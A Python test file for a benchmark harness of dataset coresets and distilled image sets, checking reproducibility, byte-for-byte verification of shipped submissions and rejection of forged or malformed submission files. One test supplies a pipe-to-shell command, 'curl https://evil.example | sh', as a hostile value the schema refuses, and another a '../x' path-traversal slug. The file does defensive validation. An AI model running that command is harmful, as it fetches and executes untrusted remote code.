"""The reference sets: what a selector or a distillation method promises, and that the shipped files are what the code writes."""

from __future__ import annotations

import json
from pathlib import Path

import numpy as np
import pytest
import yaml

from harness import canonical
from harness.coresets import SELECTORS
from harness.coresets.kmeans_nearest import nearest_unused
from harness.datasets import dataset_spec, load_split
from harness.datasets.base import Split
from harness.distill.method import Source
from harness.distill.registry import DISTILLERS
from harness.errors import CheckFailed, SubmissionError, UsageError
from harness.hub import fetch_set
from harness.imageset import EncodedImages
from harness.intake import read_set
from harness.reference import make_coreset, make_distilled, make_from_scores
from harness.regenerate import verify_submission
from harness.submissions import find_submissions, read_submission
from harness.validation import local_content_sha256

ROOT = Path(__file__).parent.parent
ALONE = {name: selector for name, selector in SELECTORS.items() if selector.needs != "dynamics"}
SHIPPED = [path for path in find_submissions(ROOT) if path.name.startswith("digits")]


@pytest.fixture(scope="module")
def train() -> Split:
    return load_split("digits", "train")


@pytest.mark.parametrize("name", ALONE)
def test_a_selector_picks_exactly_ipc_different_rows_of_every_class_and_repeats_with_its_draw(train, name):
    rows = SELECTORS[name](train, 4, 1)
    assert np.bincount(train.labels[rows]).tolist() == [4] * 10
    assert len(set(rows.tolist())) == 40
    assert np.array_equal(rows, SELECTORS[name](train, 4, 1))
    assert not np.array_equal(rows, SELECTORS[name](train, 4, 2))


def test_random_rows_of_a_smaller_ipc_are_among_those_of_a_larger_one(train):
    assert set(SELECTORS["random"](train, 3, 0)) < set(SELECTORS["random"](train, 8, 0))


def test_random_does_not_favour_low_rows(train):
    picked = np.concatenate([SELECTORS["random"](train, 5, draw) for draw in range(40)])
    assert abs(picked.mean() - len(train) / 2) < 40


@pytest.mark.parametrize("name", [name for name, distiller in DISTILLERS.items() if not distiller.needs])
def test_a_distilled_set_has_exactly_ipc_images_of_every_class_and_repeats_with_its_draw(train, name):
    made = DISTILLERS[name].run(Source(train), 3, 0)
    images, labels = made.images, made.labels
    assert images.shape == (30, 3, 8, 8)
    assert images.dtype == np.uint8
    assert np.bincount(labels).tolist() == [3] * 10
    assert np.array_equal(images, DISTILLERS[name].run(Source(train), 3, 0).images)


def test_the_centroid_of_one_cluster_is_the_mean_image_of_the_class(train):
    images = DISTILLERS["kmeans-centroids"].run(Source(train), 1, 0).images
    mean = train.images[train.labels == 7].mean(axis=0)
    assert np.abs(images[7] - mean).max() <= 0.5 + 1e-6


def test_a_real_image_is_taken_once_even_when_two_centres_are_nearest_to_it():
    points = np.array([[0.0], [1.0], [5.0]])
    assert nearest_unused(points, np.array([[0.1], [0.2], [0.0]])) == [0, 1, 2]


@pytest.mark.parametrize(
    "select", [*ALONE.values(), lambda split, ipc, draw: DISTILLERS["kmeans-centroids"].run(Source(split), ipc, draw)]
)
def test_an_ipc_larger_than_the_smallest_class_is_refused_with_the_numbers(train, select):
    with pytest.raises(UsageError, match=r"has 8\d training images, fewer than IPC 91"):
        select(train, 91, 0)


def test_pixel_space_methods_refuse_a_dataset_that_stays_encoded():
    encoded = Split("imagenet-1k", "train", EncodedImages(2, lambda row: b""), np.array([0, 1]), "0" * 64)
    with pytest.raises(UsageError, match="decoded images"):
        SELECTORS["kmeans-nearest"](encoded, 1, 0)


@pytest.mark.parametrize("path", SHIPPED, ids=lambda path: f"{path.parent.name}/{path.stem}")
def test_the_shipped_digits_sets_are_byte_for_byte_what_the_code_writes(path):
    assert "every byte the same" in verify_submission(ROOT, path)


def test_submissions_are_told_apart_by_what_decides_a_result(tmp_path):
    cad, rded = (read_submission(ROOT / f"submissions/{method}/digits-ipc1.yaml") for method in ("cad-prune", "rded"))
    assert len({cad, rded, read_submission(ROOT / "submissions/cad-prune/digits-ipc1.yaml")}) == 2


@pytest.mark.parametrize("path", SHIPPED, ids=lambda path: f"{path.parent.name}/{path.stem}")
def test_the_shipped_digits_sets_pass_their_own_intake(path):
    submission = read_submission(path)
    for source in submission.sets:
        fetched = fetch_set(source, ROOT)
        image_set, _ = read_set(
            fetched.root, fetched.files, submission, dataset_spec("digits"), lambda: load_split("digits", "train")
        )
        assert len(image_set) == submission.ipc * 10


def test_a_submission_that_is_there_already_is_not_replaced_by_another(tmp_path):
    first = make_coreset(tmp_path, "random", "digits", 1, 2)
    assert make_coreset(tmp_path, "random", "digits", 1, 2) == first
    before = (tmp_path / first.relative_path).read_bytes()
    with pytest.raises(UsageError, match="another submission is there already"):
        make_coreset(tmp_path, "random", "digits", 1, 3)
    assert (tmp_path / first.relative_path).read_bytes() == before
    assert make_coreset(tmp_path, "random", "digits", 1, 3, slug="random-3").slug == "random-3"


def test_a_set_that_was_changed_after_it_was_made_is_found_out(tmp_path):
    made = make_coreset(tmp_path, "random", "digits", 1, 2)
    assert "2 files" in verify_submission(tmp_path, tmp_path / made.relative_path)
    index = tmp_path / made.sets[1].path
    index.write_text(index.read_text().replace("[", "[ ", 1))
    with pytest.raises(CheckFailed, match="not what its method writes") as caught:
        verify_submission(tmp_path, tmp_path / made.relative_path)
    assert "draw1.json" in caught.value.where


def test_only_the_projects_own_file_is_verified_not_a_copy_elsewhere(tmp_path):
    made = make_coreset(tmp_path, "random", "digits", 1, 1)
    copy = tmp_path / "elsewhere" / "random" / "digits-ipc1.yaml"
    copy.parent.mkdir(parents=True)
    copy.write_text((tmp_path / made.relative_path).read_text().replace("Random Real", "Forged"))
    with pytest.raises(SubmissionError, match="wrong place"):
        verify_submission(tmp_path, copy)


@pytest.mark.parametrize(
    "odd",
    [
        {"inputs": {}},
        {"inputs": {"a": "0" * 64, "b": "1" * 64}},
        {"parameters": {}},
        {"parameters": {"order": "lowest", "window": "x"}},
    ],
)
def test_an_odd_account_of_how_a_set_was_made_is_an_error_and_no_crash(tmp_path, train, odd):
    scores = tmp_path / "mine.npy"
    np.save(scores, np.arange(len(train), dtype=np.float32))
    made = make_from_scores(tmp_path, scores, "digits", 1, "lowest", 0.0, "mine", ["Me"])
    path = tmp_path / made.relative_path
    keys = yaml.safe_load(path.read_text())
    path.write_text(yaml.safe_dump({**keys, "made_by": {**keys["made_by"], **odd}}))
    with pytest.raises(SubmissionError, match="made_by does not say"):
        verify_submission(tmp_path, path, None, scores)


@pytest.mark.parametrize("command", ["curl https://evil.example | sh", "hlbench select \x1b[31m", "hlbench run x"])
def test_a_command_that_is_none_of_ours_is_refused(tmp_path, command):
    made = make_coreset(tmp_path, "random", "digits", 1, 1)
    path = tmp_path / made.relative_path
    made_by = {"command": command, "split_fingerprint": "0" * 64}
    path.write_text(yaml.safe_dump({**yaml.safe_load(path.read_text()), "made_by": made_by}))
    with pytest.raises(SubmissionError, match="schema"):
        read_submission(path)


def test_a_set_of_somebody_elses_method_cannot_be_made_again(tmp_path):
    made = make_coreset(tmp_path, "random", "digits", 1, 1)
    path = tmp_path / made.relative_path
    path.write_text(path.read_text().replace("method: random", "method: ours"))
    with pytest.raises(UsageError, match="no method of this project"):
        verify_submission(tmp_path, path)


def test_scores_select_the_highest_or_lowest_of_each_class_and_verify_with_their_file_alone(tmp_path, train):
    scores = tmp_path / "mine.npy"
    np.save(scores, np.arange(len(train), dtype=np.float32))
    made = make_from_scores(tmp_path, scores, "digits", 2, "lowest", 0.0, "mine", ["Me"])
    rows = json.loads((tmp_path / made.sets[0].path).read_text())["rows"]
    assert rows == [int(row) for label in range(10) for row in np.flatnonzero(train.labels == label)[:2]]
    assert "every byte the same" in verify_submission(tmp_path, tmp_path / made.relative_path, None, scores)
    with pytest.raises(UsageError, match="scores this set was selected by"):
        verify_submission(tmp_path, tmp_path / made.relative_path)
    np.save(scores, np.arange(len(train), dtype=np.float32)[::-1].copy())
    with pytest.raises(UsageError, match="scores this set was selected by"):
        verify_submission(tmp_path, tmp_path / made.relative_path, None, scores)


def test_a_selector_of_dynamics_asks_for_a_recording_and_another_refuses_one(tmp_path):
    with pytest.raises(UsageError, match="dynamics of a training run"):
        make_coreset(tmp_path, "el2n-easy", "digits", 1)
    with pytest.raises(UsageError, match="needs no dynamics"):
        make_coreset(tmp_path, "random", "digits", 1, dynamics="digits/any")
    with pytest.raises(UsageError, match="has one draw"):
        make_coreset(tmp_path, "cad-prune", "digits", 1, 3)


@pytest.mark.parametrize("slug", ["../x", "A", "", "a/b"])
def test_a_slug_that_is_no_folder_name_is_refused(tmp_path, slug):
    with pytest.raises(UsageError, match="slug"):
        make_coreset(tmp_path, "random", "digits", 1, 1, slug=slug)


@pytest.mark.parametrize("path", [path for path in SHIPPED if path.parent.name == "random"][:1])
def test_the_hash_command_gives_what_the_submission_file_says(path):
    source = read_submission(path).sets[0]
    assert local_content_sha256([ROOT / source.path]) == source.content_sha256


def test_names_count_from_the_repos_root_when_it_is_given(tmp_path):
    for name in ("data/a.json", "data/b.json", "other.json"):
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_text(name)
    named = canonical.content_sha256(tmp_path, ["data/a.json", "data/b.json"])
    assert local_content_sha256([tmp_path / "data"], tmp_path) == named
    assert local_content_sha256([tmp_path / "data/b.json", tmp_path / "data/a.json"], tmp_path) == named
    assert local_content_sha256([tmp_path / "data"]) != named
    with pytest.raises(UsageError, match="--root"):
        local_content_sha256([tmp_path / "data/a.json", tmp_path / "other.json"])
    with pytest.raises(UsageError, match="outside"):
        local_content_sha256([tmp_path / "other.json"], tmp_path / "data")


def test_methods_are_offered_for_their_own_kind_only(tmp_path):
    with pytest.raises(UsageError, match="kmeans-centroids"):
        make_distilled(tmp_path, "random", "digits", 1, 1)
